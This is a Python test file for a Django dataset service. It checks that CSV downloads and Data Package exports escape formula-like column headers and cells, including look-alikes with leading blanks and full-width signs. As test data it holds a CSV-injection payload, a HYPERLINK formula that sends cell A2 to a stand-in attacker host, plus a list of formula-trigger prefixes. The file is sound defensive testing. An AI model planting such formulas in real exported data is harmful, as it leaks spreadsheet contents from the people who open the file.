"""Red-team finding 7: a column named `=HYPERLINK(...)` reached the CSV header unchanged.

Header names are escaped as cells are, on both CSV paths (download.csv and the Data Package),
and so are the look-alikes spreadsheets evaluate: a sign after blanks, full-width signs.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import frictionless
import pytest
from django.test import Client

from datacollab.datasets import csvsafe
from datacollab.datasets.models import Spectrum
from tests.datasets.factories_formats import datasets_storage, make_version  # noqa: F401
from tests.factories_data import make_dataset

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("datasets_storage")]

HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
NAMES = ["id", HOSTILE, "  @SUM(1)", "\uff1dcmd", "\uff0b1", "plain name"]


def _version():
    dataset = make_dataset(spectrum=Spectrum.OPEN, slug="hostile-header")
    columns = {name: [f"v{i}"] for i, name in enumerate(NAMES)}
    schema = {"fields": [{"name": name, "type": "string"} for name in NAMES], "primaryKey": "id"}
    return dataset, make_version(dataset, columns, schema)


ESCAPED = ["id", "'" + HOSTILE, "'  @SUM(1)", "'\uff1dcmd", "'\uff0b1", "plain name"]


@pytest.mark.parametrize(
    ("text", "formula"),
    [
        ("=1", True),
        ("+1", True),
        ("-1", True),
        ("@x", True),
        ("\tx", True),
        ("\rx", True),
        ("   =1", True),
        ("\u00a0\u3000+1", True),
        ("\x01=1", True),
        ("\ufeff@x", True),
        ("\uff1d1", True),
        ("\uff0b1", True),
        ("\uff0d1", True),
        ("\uff20x", True),
        (" x", False),
        ("a=1", False),
        ("", False),
    ],
)
def test_is_formula_and_its_sql_twin_agree(text, formula):
    from datacollab.datasets.rows import connect

    with connect() as con:
        in_sql = con.execute(f"SELECT {csvsafe.formula_sql('?')}", [text]).fetchone()[0]
    assert (csvsafe.is_formula(text), in_sql) == (formula, formula)


def test_download_csv_escapes_a_formula_header():
    _version()

    response = Client().get("/datasets/hostile-header/v1/download.csv")

    text = b"".join(response.streaming_content).decode("utf-8")
    header, row = list(csv.reader(io.StringIO(text)))
    assert header == ESCAPED
    assert row == ["v0", "v1", "v2", "v3", "v4", "v5"]


def test_download_csv_escapes_look_alike_cells():
    dataset = make_dataset(spectrum=Spectrum.OPEN, slug="look-alikes")
    cells = ["  =1+1", "\uff1d1+1", "\uff0bx", "\uff0d2", "\uff20A1", "\u3000@x", "fine"]
    make_version(dataset, {"cell": cells}, {"fields": [{"name": "cell", "type": "string"}]})

    response = Client().get("/datasets/look-alikes/v1/download.csv")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))
    assert [r[0] for r in rows[1:]] == ["'" + c for c in cells[:-1]] + ["fine"]


def test_datapackage_escapes_a_formula_header_and_still_validates(tmp_path: Path):
    _version()

    response = Client().get("/datasets/hostile-header/v1/datapackage.zip")

    with zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content))) as zf:
        zf.extractall(tmp_path)
    text = (tmp_path / "data.csv").read_text(encoding="utf-8")
    assert next(csv.reader(io.StringIO(text))) == ESCAPED
    descriptor = json.loads((tmp_path / "datapackage.json").read_text())
    fields = descriptor["resources"][0]["schema"]["fields"]
    assert [f["name"] for f in fields] == ESCAPED
    assert [f.get("title") for f in fields] == [
        None,
        HOSTILE,
        "  @SUM(1)",
        "\uff1dcmd",
        "\uff0b1",
        None,
    ]
    assert frictionless.validate(str(tmp_path / "datapackage.json")).valid is True
